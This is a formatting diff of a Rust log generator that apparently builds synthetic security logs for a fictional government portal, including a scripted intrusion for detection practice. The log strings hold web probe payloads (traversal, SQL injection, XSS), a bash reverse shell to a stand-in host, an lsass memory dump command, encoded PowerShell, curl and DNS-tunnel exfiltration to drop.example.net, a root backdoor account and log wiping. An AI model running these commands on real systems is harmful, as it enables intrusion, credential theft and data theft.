@@ -96,21 +96,31 @@ impl Scribe {
 
     /// RFC 5424, as rsyslog's forwarding template writes it.
     fn syslog(&mut self, ms: i64, priority: u8, host: &str, app: &str, pid: u32, message: &str) {
-        let stamp = self.time(ms).to_zoned(self.zone.clone()).strftime("%Y-%m-%dT%H:%M:%S.%3f%:z");
+        let stamp = self
+            .time(ms)
+            .to_zoned(self.zone.clone())
+            .strftime("%Y-%m-%dT%H:%M:%S.%3f%:z");
         let text = format!("<{priority}>1 {stamp} {host} {app} {pid} - - {message}");
         self.put(ms, Wire::SyslogTcp, text);
     }
 
     /// RFC 3164 in local time, as network equipment writes it.
     fn old_syslog(&mut self, ms: i64, priority: u8, host: &str, message: &str) {
-        let stamp = self.time(ms).to_zoned(self.zone.clone()).strftime("%b %e %H:%M:%S");
+        let stamp = self
+            .time(ms)
+            .to_zoned(self.zone.clone())
+            .strftime("%b %e %H:%M:%S");
         let text = format!("<{priority}>{stamp} {host} {message}");
         self.put(ms, Wire::SyslogUdp, text);
     }
 
     fn web(&mut self, ms: i64, ip: &str, request: &str, status: u16, bytes: u64, agent: &str) {
-        let stamp = self.time(ms).to_zoned(self.zone.clone()).strftime("%d/%b/%Y:%H:%M:%S %z");
-        let line = format!("{ip} - - [{stamp}] \"{request} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"");
+        let stamp = self
+            .time(ms)
+            .to_zoned(self.zone.clone())
+            .strftime("%d/%b/%Y:%H:%M:%S %z");
+        let line =
+            format!("{ip} - - [{stamp}] \"{request} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"");
         self.syslog(ms, 190, PORTAL, "nginx", 911, &line);
     }
 
@@ -128,13 +138,24 @@ impl Scribe {
     }
 
     fn dns(&mut self, ms: i64, client: &str, kind: &str, name: &str) {
-        self.old_syslog(ms, 30, "ns-1", &format!("dnsmasq[611]: query[{kind}] {name} from {client}"));
+        self.old_syslog(
+            ms,
+            30,
+            "ns-1",
+            &format!("dnsmasq[611]: query[{kind}] {name} from {client}"),
+        );
     }
 
     /// One `execve` as auditd writes it: SYSCALL, EXECVE, CWD, EOE.
     fn exec(&mut self, ms: i64, user: (&str, u32), exe: &str, argv: &[&str], folder: &str) {
         let (name, uid) = user;
-        let comm: String = exe.rsplit('/').next().unwrap_or(exe).chars().take(15).collect();
+        let comm: String = exe
+            .rsplit('/')
+            .next()
+            .unwrap_or(exe)
+            .chars()
+            .take(15)
+            .collect();
         let pid = 5000 + self.dice.below(20_000);
         let arguments: String = argv
             .iter()
@@ -172,14 +193,30 @@ impl Scribe {
         );
         for record in records {
             let (kind, rest) = record.split_once('|').unwrap_or((record, ""));
-            self.put(ms, Wire::Hec, format!("node={PORTAL} type={kind} msg=audit({stamp}): {rest}"));
+            self.put(
+                ms,
+                Wire::Hec,
+                format!("node={PORTAL} type={kind} msg=audit({stamp}): {rest}"),
+            );
         }
     }
 
     /// A Winlogbeat document.
-    fn windows(&mut self, ms: i64, host: &str, channel: &str, provider: &str, id: u32, data: Value) {
+    fn windows(
+        &mut self,
+        ms: i64,
+        host: &str,
+        channel: &str,
+        provider: &str,
+        id: u32,
+        data: Value,
+    ) {
         self.record_id += 1;
-        let key = if id == 1102 { "user_data" } else { "event_data" };
+        let key = if id == 1102 {
+            "user_data"
+        } else {
+            "event_data"
+        };
         let mut log = json!({
             "channel": channel,
             "provider_name": provider,
@@ -200,10 +237,25 @@ impl Scribe {
     }
 
     fn security(&mut self, ms: i64, host: &str, id: u32, data: Value) {
-        self.windows(ms, host, "Security", "Microsoft-Windows-Security-Auditing", id, data);
+        self.windows(
+            ms,
+            host,
+            "Security",
+            "Microsoft-Windows-Security-Auditing",
+            id,
+            data,
+        );
     }
 
-    fn process(&mut self, ms: i64, host: &str, image: &str, command: &str, parent: &str, user: &str) {
+    fn process(
+        &mut self,
+        ms: i64,
+        host: &str,
+        image: &str,
+        command: &str,
+        parent: &str,
+        user: &str,
+    ) {
         let pid = 1000 + self.dice.below(20_000);
         let file = image.rsplit('\\').next().unwrap_or(image);
         let time = self.time(ms).strftime("%Y-%m-%d %H:%M:%S.%3f").to_string();
@@ -217,7 +269,10 @@ impl Scribe {
 
 /// auditd writes arguments in quotes, or in hexadecimal where they hold blanks or quotes.
 fn audit_text(argument: &str) -> String {
-    if argument.bytes().all(|byte| byte.is_ascii_graphic() && byte != b'"') {
+    if argument
+        .bytes()
+        .all(|byte| byte.is_ascii_graphic() && byte != b'"')
+    {
         return format!("\"{argument}\"");
     }
     argument.bytes().map(|byte| format!("{byte:02X}")).collect()
@@ -230,12 +285,26 @@ const BROWSERS: [&str; 4] = [
     "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/142.0 Mobile Safari/537.36",
 ];
 const PAGES: [&str; 10] = [
-    "/", "/kk/services", "/ru/services", "/en/services", "/kk/services/certificate?step=1",
-    "/ru/news/2026/11", "/static/app.css", "/static/app.js", "/kk/contacts", "/api/queue/status",
+    "/",
+    "/kk/services",
+    "/ru/services",
+    "/en/services",
+    "/kk/services/certificate?step=1",
+    "/ru/news/2026/11",
+    "/static/app.css",
+    "/static/app.js",
+    "/kk/contacts",
+    "/api/queue/status",
 ];
 const NAMES: [&str; 8] = [
-    "portal.gov.example", "mail.gov.example", "time.gov.example", "egov.example", "deb.example.org",
-    "update.example.com", "cdn.example.net", "weather.example",
+    "portal.gov.example",
+    "mail.gov.example",
+    "time.gov.example",
+    "egov.example",
+    "deb.example.org",
+    "update.example.com",
+    "cdn.example.net",
+    "weather.example",
 ];
 
 fn everyday_portal(scribe: &mut Scribe) {
@@ -244,7 +313,9 @@ fn everyday_portal(scribe: &mut Scribe) {
         let ip = format!("192.0.2.{}", 1 + scribe.dice.below(254));
         let page = *scribe.dice.pick(&PAGES);
         let agent = *scribe.dice.pick(&BROWSERS);
-        let status = *scribe.dice.pick(&[200, 200, 200, 200, 200, 200, 304, 302, 404]);
+        let status = *scribe
+            .dice
+            .pick(&[200, 200, 200, 200, 200, 200, 304, 302, 404]);
         let bytes = 300 + scribe.dice.below(40_000);
         scribe.web(ms, &ip, &format!("GET {page}"), status, bytes, agent);
     }
@@ -254,7 +325,10 @@ fn everyday_portal(scribe: &mut Scribe) {
         scribe.ssh(ms, &format!(
             "Accepted publickey for deploy from 10.20.0.9 port {port} ssh2: ED25519 SHA256:9yWk1Pp0sQdB"
         ));
-        scribe.ssh(ms + 40, "pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)");
+        scribe.ssh(
+            ms + 40,
+            "pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)",
+        );
     }
     for _ in 0..150 {
         let ms = scribe.any_time();
@@ -266,7 +340,10 @@ fn everyday_portal(scribe: &mut Scribe) {
         let (exe, argv): (&str, &[&str]) = *scribe.dice.pick(&[
             ("/usr/bin/ls", &["ls", "-l", "/srv/portal"] as &[&str]),
             ("/usr/bin/systemctl", &["systemctl", "is-active", "nginx"]),
-            ("/usr/bin/rsync", &["rsync", "-a", "/srv/portal/", "/srv/backup/"]),
+            (
+                "/usr/bin/rsync",
+                &["rsync", "-a", "/srv/portal/", "/srv/backup/"],
+            ),
             ("/usr/bin/date", &["date", "+%s"]),
         ]);
         scribe.exec(ms, ("deploy", 1002), exe, argv, "/srv/portal");
@@ -279,7 +356,11 @@ fn everyday_network(scribe: &mut Scribe) {
         let from = format!("10.20.4.{}", 2 + scribe.dice.below(240));
         let to = format!("192.0.2.{}", 1 + scribe.dice.below(254));
         let port = *scribe.dice.pick(&[443u16, 443, 443, 80, 123, 53, 993]);
-        let protocol = if matches!(port, 53 | 123) { "UDP" } else { "TCP" };
+        let protocol = if matches!(port, 53 | 123) {
+            "UDP"
+        } else {
+            "TCP"
+        };
         scribe.firewall(ms, &from, &to, port, protocol);
     }
     for _ in 0..2_600 {
@@ -294,13 +375,20 @@ fn everyday_network(scribe: &mut Scribe) {
 fn everyday_windows(scribe: &mut Scribe) {
     for _ in 0..900 {
         let ms = scribe.any_time();
-        let user = *scribe.dice.pick(&["a.serik", "b.aliya", "d.nurlan", "svc_print"]);
+        let user = *scribe
+            .dice
+            .pick(&["a.serik", "b.aliya", "d.nurlan", "svc_print"]);
         let address = format!("10.20.4.{}", 2 + scribe.dice.below(240));
         let logon = format!("0x{:x}", scribe.dice.below(1 << 32));
-        scribe.security(ms, CONTROLLER, 4624, json!({
-            "TargetUserName": user, "TargetDomainName": "GOV", "TargetLogonId": logon,
-            "LogonType": "3", "IpAddress": address, "WorkstationName": "-",
-        }));
+        scribe.security(
+            ms,
+            CONTROLLER,
+            4624,
+            json!({
+                "TargetUserName": user, "TargetDomainName": "GOV", "TargetLogonId": logon,
+                "LogonType": "3", "IpAddress": address, "WorkstationName": "-",
+            }),
+        );
         scribe.security(ms + 90_000, CONTROLLER, 4634, json!({
             "TargetUserName": user, "TargetDomainName": "GOV", "TargetLogonId": logon, "LogonType": "3",
         }));
@@ -308,24 +396,53 @@ fn everyday_windows(scribe: &mut Scribe) {
     for _ in 0..500 {
         let ms = scribe.any_time();
         let (image, command) = *scribe.dice.pick(&[
-            ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p"),
-            ("C:\\Program Files\\LibreOffice\\program\\soffice.exe", "soffice.exe --writer"),
-            ("C:\\Windows\\System32\\backgroundTaskHost.exe", "backgroundTaskHost.exe"),
+            (
+                "C:\\Windows\\System32\\svchost.exe",
+                "svchost.exe -k netsvcs -p",
+            ),
+            (
+                "C:\\Program Files\\LibreOffice\\program\\soffice.exe",
+                "soffice.exe --writer",
+            ),
+            (
+                "C:\\Windows\\System32\\backgroundTaskHost.exe",
+                "backgroundTaskHost.exe",
+            ),
         ]);
-        scribe.process(ms, WORKPLACE, image, command, "C:\\Windows\\explorer.exe", "GOV\\a.serik");
+        scribe.process(
+            ms,
+            WORKPLACE,
+            image,
+            command,
+            "C:\\Windows\\explorer.exe",
+            "GOV\\a.serik",
+        );
     }
 }
 
 fn reconnaissance(scribe: &mut Scribe) {
     let probes = [
-        "/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak", "/admin",
-        "/download?file=../../../../etc/passwd", "/search?q=1%27%20or%20%271%27=%271",
-        "/item?id=1+union+select+1,2,3", "/?x=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/.env",
+        "/.git/config",
+        "/backup.sql",
+        "/wp-config.php.bak",
+        "/admin",
+        "/download?file=../../../../etc/passwd",
+        "/search?q=1%27%20or%20%271%27=%271",
+        "/item?id=1+union+select+1,2,3",
+        "/?x=%3Cscript%3Ealert(1)%3C/script%3E",
     ];
     for at in 0..270 {
         let probe = probes[at as usize % probes.len()];
         let ms = ATTACK + at * 900;
-        scribe.web(ms, ATTACKER, &format!("GET {probe}"), 404, 162, "sqlmap/1.8.2#stable (https://sqlmap.org)");
+        scribe.web(
+            ms,
+            ATTACKER,
+            &format!("GET {probe}"),
+            404,
+            162,
+            "sqlmap/1.8.2#stable (https://sqlmap.org)",
+        );
     }
     scribe.firewall(ATTACK + 20_000, ATTACKER, "10.20.0.30", 5432, "TCP");
     scribe.firewall(ATTACK + 21_000, ATTACKER, "10.20.4.17", 3389, "TCP");
@@ -334,34 +451,94 @@ fn reconnaissance(scribe: &mut Scribe) {
 fn brute_force(scribe: &mut Scribe) {
     let begin = ATTACK + 5 * MINUTE;
     for at in 0..640 {
-        scribe.web(begin + at * 700, ATTACKER, "POST /login", 401, 88, "python-requests/2.32");
+        scribe.web(
+            begin + at * 700,
+            ATTACKER,
+            "POST /login",
+            401,
+            88,
+            "python-requests/2.32",
+        );
     }
     for at in 0..220 {
-        let name = *scribe.dice.pick(&["root", "admin", "oracle", "test", "portal"]);
+        let name = *scribe
+            .dice
+            .pick(&["root", "admin", "oracle", "test", "portal"]);
         let port = 40_000 + at;
         let ms = begin + at * 1_500;
         if matches!(name, "root" | "portal") {
-            scribe.ssh(ms, &format!("Failed password for {name} from {ATTACKER} port {port} ssh2"));
+            scribe.ssh(
+                ms,
+                &format!("Failed password for {name} from {ATTACKER} port {port} ssh2"),
+            );
         } else {
-            scribe.ssh(ms, &format!("Invalid user {name} from {ATTACKER} port {port}"));
+            scribe.ssh(
+                ms,
+                &format!("Invalid user {name} from {ATTACKER} port {port}"),
+            );
         }
     }
-    scribe.web(begin + 8 * MINUTE, ATTACKER, "POST /login", 302, 0, "python-requests/2.32");
+    scribe.web(
+        begin + 8 * MINUTE,
+        ATTACKER,
+        "POST /login",
+        302,
+        0,
+        "python-requests/2.32",
+    );
 }
 
 fn web_shell(scribe: &mut Scribe) {
     let begin = ATTACK + 14 * MINUTE;
     let account = ("www-data", 33);
-    scribe.web(begin, ATTACKER, "PUT /uploads/photo_14.php", 201, 0, "python-requests/2.32");
-    for (at, command) in ["id", "uname+-a", "ls+-la+/var/www", "cat+/etc/passwd"].iter().enumerate() {
+    scribe.web(
+        begin,
+        ATTACKER,
+        "PUT /uploads/photo_14.php",
+        201,
+        0,
+        "python-requests/2.32",
+    );
+    for (at, command) in ["id", "uname+-a", "ls+-la+/var/www", "cat+/etc/passwd"]
+        .iter()
+        .enumerate()
+    {
         let ms = begin + 20_000 + at as i64 * 9_000;
-        scribe.web(ms, ATTACKER, &format!("GET /uploads/photo_14.php?cmd={command}"), 200, 412, "curl/8.5.0");
-        scribe.exec(ms + 50, account, "/usr/bin/dash", &["sh", "-c", &command.replace('+', " ")], "/var/www/portal/uploads");
+        scribe.web(
+            ms,
+            ATTACKER,
+            &format!("GET /uploads/photo_14.php?cmd={command}"),
+            200,
+            412,
+            "curl/8.5.0",
+        );
+        scribe.exec(
+            ms + 50,
+            account,
+            "/usr/bin/dash",
+            &["sh", "-c", &command.replace('+', " ")],
+            "/var/www/portal/uploads",
+        );
     }
-    scribe.exec(begin + MINUTE, account, "/usr/bin/bash",
-        &["bash", "-c", &format!("bash -i >& /dev/tcp/{DROP}/4444 0>&1")], "/var/www/portal/uploads");
+    scribe.exec(
+        begin + MINUTE,
+        account,
+        "/usr/bin/bash",
+        &[
+            "bash",
+            "-c",
+            &format!("bash -i >& /dev/tcp/{DROP}/4444 0>&1"),
+        ],
+        "/var/www/portal/uploads",
+    );
     scribe.firewall(begin + MINUTE + 30, "10.20.0.20", DROP, 4444, "TCP");
-    scribe.exec(begin + 2 * MINUTE, account, "/dev/shm/.x/agent", &["/dev/shm/.x/agent", "--connect"], "/dev/shm/.x");
+    scribe.exec(
+        begin + 2 * MINUTE,
+        account,
+        "/dev/shm/.x/agent",
+        &["/dev/shm/.x/agent", "--connect"],
+        "/dev/shm/.x",
+    );
 }
 
 fn privilege_escalation(scribe: &mut Scribe) {
@@ -369,22 +546,64 @@ fn privilege_escalation(scribe: &mut Scribe) {
     let root = ("root", 0);
     scribe.syslog(begin, 85, PORTAL, "sudo", 7042,
         "www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/id");
-    scribe.exec(begin + 40_000, root, "/usr/bin/chmod", &["chmod", "u+s", "/usr/local/bin/find2"], "/root");
-    scribe.open(begin + 55_000, root, "/usr/bin/cat", "/etc/shadow", "NORMAL");
-    scribe.syslog(begin + 80_000, 86, PORTAL, "useradd", 7050,
-        "new user: name=svc-sync, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1");
-    scribe.syslog(begin + 82_000, 86, PORTAL, "usermod", 7051, "add 'svc-sync' to group 'sudo'");
-    scribe.open(begin + 95_000, root, "/usr/bin/bash", "/etc/cron.d/sync", "CREATE");
-    scribe.exec(begin + 110_000, root, "/usr/sbin/auditctl", &["auditctl", "-e", "0"], "/root");
+    scribe.exec(
+        begin + 40_000,
+        root,
+        "/usr/bin/chmod",
+        &["chmod", "u+s", "/usr/local/bin/find2"],
+        "/root",
+    );
+    scribe.open(
+        begin + 55_000,
+        root,
+        "/usr/bin/cat",
+        "/etc/shadow",
+        "NORMAL",
+    );
+    scribe.syslog(
+        begin + 80_000,
+        86,
+        PORTAL,
+        "useradd",
+        7050,
+        "new user: name=svc-sync, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
+    );
+    scribe.syslog(
+        begin + 82_000,
+        86,
+        PORTAL,
+        "usermod",
+        7051,
+        "add 'svc-sync' to group 'sudo'",
+    );
+    scribe.open(
+        begin + 95_000,
+        root,
+        "/usr/bin/bash",
+        "/etc/cron.d/sync",
+        "CREATE",
+    );
+    scribe.exec(
+        begin + 110_000,
+        root,
+        "/usr/sbin/auditctl",
+        &["auditctl", "-e", "0"],
+        "/root",
+    );
 }
 
 fn lateral_movement(scribe: &mut Scribe) {
     let begin = ATTACK + 25 * MINUTE;
     for at in 0..60 {
-        scribe.security(begin + at * 1_000, CONTROLLER, 4625, json!({
-            "TargetUserName": "administrator", "TargetDomainName": "GOV", "LogonType": "3",
-            "IpAddress": "10.20.0.20", "Status": "0xc000006d", "SubStatus": "0xc000006a",
-        }));
+        scribe.security(
+            begin + at * 1_000,
+            CONTROLLER,
+            4625,
+            json!({
+                "TargetUserName": "administrator", "TargetDomainName": "GOV", "LogonType": "3",
+                "IpAddress": "10.20.0.20", "Status": "0xc000006d", "SubStatus": "0xc000006a",
+            }),
+        );
     }
     let ms = begin + 2 * MINUTE;
     scribe.security(ms, CONTROLLER, 4624, json!({
@@ -397,11 +616,30 @@ fn lateral_movement(scribe: &mut Scribe) {
     }));
     let system = "NT AUTHORITY\\SYSTEM";
     let services = "C:\\Windows\\System32\\services.exe";
-    scribe.process(ms + 6_000, CONTROLLER, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", services, system);
-    scribe.process(ms + 9_000, CONTROLLER, "C:\\Windows\\System32\\rundll32.exe",
-        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full", "C:\\Windows\\PSEXESVC.exe", system);
-    scribe.process(ms + 20_000, CONTROLLER, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "C:\\Windows\\PSEXESVC.exe", system);
+    scribe.process(
+        ms + 6_000,
+        CONTROLLER,
+        "C:\\Windows\\PSEXESVC.exe",
+        "C:\\Windows\\PSEXESVC.exe",
+        services,
+        system,
+    );
+    scribe.process(
+        ms + 9_000,
+        CONTROLLER,
+        "C:\\Windows\\System32\\rundll32.exe",
+        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
+        "C:\\Windows\\PSEXESVC.exe",
+        system,
+    );
+    scribe.process(
+        ms + 20_000,
+        CONTROLLER,
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+        "C:\\Windows\\PSEXESVC.exe",
+        system,
+    );
     scribe.security(ms + 30_000, CONTROLLER, 4720, json!({
         "TargetUserName": "svc_sync", "SubjectUserName": "administrator", "SubjectDomainName": "GOV",
     }));
@@ -413,18 +651,55 @@ fn lateral_movement(scribe: &mut Scribe) {
 
 fn exfiltration(scribe: &mut Scribe) {
     let begin = ATTACK + 34 * MINUTE;
-    scribe.web(begin, ATTACKER, "GET /admin/export?table=citizens", 200, 734_003_200, "curl/8.5.0");
-    scribe.exec(begin + 30_000, ("www-data", 33), "/usr/bin/curl",
-        &["curl", "-T", "/dev/shm/.x/citizens.tar.gz", "https://drop.example.net/u/"], "/dev/shm/.x");
+    scribe.web(
+        begin,
+        ATTACKER,
+        "GET /admin/export?table=citizens",
+        200,
+        734_003_200,
+        "curl/8.5.0",
+    );
+    scribe.exec(
+        begin + 30_000,
+        ("www-data", 33),
+        "/usr/bin/curl",
+        &[
+            "curl",
+            "-T",
+            "/dev/shm/.x/citizens.tar.gz",
+            "https://drop.example.net/u/",
+        ],
+        "/dev/shm/.x",
+    );
     for at in 0..160 {
-        let label: String = (0..52).map(|_| *scribe.dice.pick(b"abcdefghijklmnopqrstuvwxyz234567") as char).collect();
-        scribe.dns(begin + MINUTE + at * 400, "10.20.0.20", "TXT", &format!("{label}.t.drop.example.net"));
+        let label: String = (0..52)
+            .map(|_| *scribe.dice.pick(b"abcdefghijklmnopqrstuvwxyz234567") as char)
+            .collect();
+        scribe.dns(
+            begin + MINUTE + at * 400,
+            "10.20.0.20",
+            "TXT",
+            &format!("{label}.t.drop.example.net"),
+        );
     }
     scribe.firewall(begin + 3 * MINUTE, "10.20.0.20", DROP, 445, "TCP");
-    scribe.exec(begin + 5 * MINUTE, ("root", 0), "/usr/bin/shred", &["shred", "-u", "/var/log/auth.log"], "/root");
-    scribe.windows(begin + 6 * MINUTE, CONTROLLER, "Security", "Microsoft-Windows-Eventlog", 1102, json!({
-        "SubjectUserName": "administrator", "SubjectDomainName": "GOV",
-    }));
+    scribe.exec(
+        begin + 5 * MINUTE,
+        ("root", 0),
+        "/usr/bin/shred",
+        &["shred", "-u", "/var/log/auth.log"],
+        "/root",
+    );
+    scribe.windows(
+        begin + 6 * MINUTE,
+        CONTROLLER,
+        "Security",
+        "Microsoft-Windows-Eventlog",
+        1102,
+        json!({
+            "SubjectUserName": "administrator", "SubjectDomainName": "GOV",
+        }),
+    );
 }
 
 #[cfg(test)]
@@ -437,8 +712,17 @@ mod tests {
         let zone = TimeZone::fixed(jiff::tz::offset(5));
         let first = story(7, end, &zone);
         let second = story(7, end, &zone);
-        assert!((18_000..24_000).contains(&first.len()), "{} lines", first.len());
-        assert!(first.iter().zip(&second).all(|(a, b)| a.text == b.text && a.at == b.at));
+        assert!(
+            (18_000..24_000).contains(&first.len()),
+            "{} lines",
+            first.len()
+        );
+        assert!(
+            first
+                .iter()
+                .zip(&second)
+                .all(|(a, b)| a.text == b.text && a.at == b.at)
+        );
         assert!(first.windows(2).all(|pair| pair[0].at <= pair[1].at));
         assert!(first.last().unwrap().at < end);
         assert_ne!(first[0].text, story(8, end, &zone)[0].text);
